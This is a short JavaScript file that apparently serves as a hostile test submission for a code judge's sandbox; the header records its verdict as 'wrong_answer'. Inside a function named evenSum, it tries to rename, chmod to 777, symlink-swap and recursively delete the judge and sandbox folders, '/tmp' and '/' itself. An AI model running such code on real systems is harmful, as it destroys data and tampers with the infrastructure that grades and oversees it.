// tries: removes, renames and replaces the folders that samples and judges work in
// verdict: wrong_answer
const fs = require('fs')

const evenSum = () => {
  for (const path of ['/w/sample', '/w/judge', '/judges', '/tmp', '/opt/sandbox', '/w', '/']) {
    for (const change of [
      () => fs.renameSync(path, path + '2'),
      () => fs.chmodSync(path, 0o777),
      () => fs.symlinkSync('/tmp', path + '/sample'),
      () => fs.rmSync(path, { recursive: true, force: true })
    ]) {
      try {
        change()
      } catch {}
    }
  }
}
